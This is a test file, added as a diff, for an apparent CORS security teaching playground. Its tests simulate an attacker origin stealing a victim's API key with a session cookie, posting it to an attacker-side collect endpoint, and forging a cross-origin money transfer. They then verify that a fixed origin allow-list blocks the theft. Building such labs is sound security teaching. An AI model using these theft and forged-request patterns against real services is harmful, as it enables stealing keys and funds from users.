@@ -1,0 +1,116 @@
+import { request as httpRequest } from 'node:http';
+import { describe, expect, it } from 'vitest';
+import type { PlaygroundConfig } from '@cors-playground/protocol';
+import { playgroundTesting } from '../start/playgroundTesting.testkit.ts';
+
+interface Answer {
+  status: number;
+  headers: Record<string, string | string[] | undefined>;
+  body: string;
+}
+
+/** A request to a stage host name, sent to loopback (the test's resolver may not know `*.localhost`). */
+function stageAsk(
+  origin: string,
+  path: string,
+  init: { method?: string; headers?: Record<string, string>; body?: string } = {},
+): Promise<Answer> {
+  const url = new URL(origin);
+  return new Promise((resolve, reject) => {
+    const req = httpRequest(
+      {
+        host: '127.0.0.1',
+        port: url.port,
+        path,
+        method: init.method ?? 'GET',
+        headers: { host: url.host, ...init.headers },
+      },
+      (res) => {
+        let body = '';
+        res.setEncoding('utf8');
+        res.on('data', (chunk: string) => (body += chunk));
+        res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body }));
+      },
+    );
+    req.on('error', reject);
+    req.end(init.body);
+  });
+}
+
+const control = (config: PlaygroundConfig, path: string, body: unknown) =>
+  fetch(`${config.appOrigin}/control/sandboxes/s1${path}`, {
+    method: 'PUT',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify(body),
+  });
+
+const status = async (config: PlaygroundConfig) =>
+  (await (await fetch(`${config.appOrigin}/control/sandboxes/s1/challenge`)).json()) as Record<
+    string,
+    unknown
+  >;
+
+describe('the challenge stage', () => {
+  it('lets a sibling steal the key under the vulnerable policy, and sees the fix block it', async () => {
+    const { config } = await playgroundTesting();
+    const { victimApi, attackers } = config.stage;
+    expect((await control(config, '/challenge', { challengeId: 'reflect-sibling' })).status).toBe(200);
+
+    const login = await stageAsk(victimApi, '/s/s1/login?session=cookie-lax');
+    expect(login.status).toBe(303);
+    const cookie = String(login.headers['set-cookie']).split(';')[0] ?? '';
+    expect(String(login.headers['set-cookie'])).toMatch(/Path=\/s\/s1\/; HttpOnly; SameSite=Lax/);
+
+    const blog = attackers.sibling ?? '';
+    const stolen = await stageAsk(victimApi, '/s/s1/api-key', { headers: { cookie, origin: blog } });
+    expect(stolen.status).toBe(200);
+    expect(stolen.headers['access-control-allow-origin']).toBe(blog);
+    expect(stolen.headers['cache-control']).toBe('no-store');
+    const collect = (body: string) => stageAsk(blog, '/s/s1/collect', { method: 'POST', body });
+    expect((await collect(stolen.body)).status).toBe(204);
+    expect(await status(config)).toMatchObject({ solved: true, blockedAfterFix: false, complete: false });
+
+    const fixed = { origin: { mode: 'list', allow: [config.stage.victimApp] }, credentials: true };
+    expect((await control(config, '/policy', fixed)).status).toBe(200);
+    const refused = await stageAsk(victimApi, '/s/s1/api-key', { headers: { cookie, origin: blog } });
+    expect(refused.headers['access-control-allow-origin']).toBeUndefined();
+    await collect('blocked: TypeError: Failed to fetch');
+    expect(await status(config)).toMatchObject({ blockedAfterFix: true, appWorks: true, complete: true });
+  });
+
+  it('counts a transfer the app did not make, and serves the attack page with the template', async () => {
+    const { config } = await playgroundTesting();
+    const { victimApi, attackers } = config.stage;
+    await control(config, '/challenge', { challengeId: 'not-csrf' });
+    await control(config, '/challenge/exploit', { exploit: 'report("</script><b>")' });
+    const page = await stageAsk(attackers.sibling ?? '', '/s/s1/attack');
+    expect(page.body).toContain('report("<\\/script><b>")');
+    expect((await stageAsk(attackers.crossSite ?? '', '/s/s1/attack?frame=null')).body).toContain(
+      'sandbox="allow-scripts"',
+    );
+
+    const login = await stageAsk(victimApi, '/s/s1/login?session=cookie-lax');
+    const cookie = String(login.headers['set-cookie']).split(';')[0] ?? '';
+    const transfer = await stageAsk(victimApi, '/s/s1/transfer', {
+      method: 'POST',
+      headers: {
+        cookie,
+        origin: attackers.sibling ?? '',
+        'content-type': 'application/x-www-form-urlencoded',
+      },
+      body: 'to=mallory&amount=500',
+    });
+    expect(transfer.status).toBe(200);
+    expect(await status(config)).toMatchObject({ solved: true, balance: 500 });
+  });
+
+  it('refuses an unknown challenge and an oversized exploit with the field path', async () => {
+    const { config } = await playgroundTesting();
+    const unknown = await control(config, '/challenge', { challengeId: 'nope' });
+    expect(unknown.status).toBe(400);
+    await control(config, '/challenge', { challengeId: 'null-origin' });
+    const large = await control(config, '/challenge/exploit', { exploit: 'x'.repeat(20_000) });
+    expect(large.status).toBe(400);
+    expect(await large.json()).toMatchObject({ errors: [{ path: 'exploit' }] });
+  });
+});
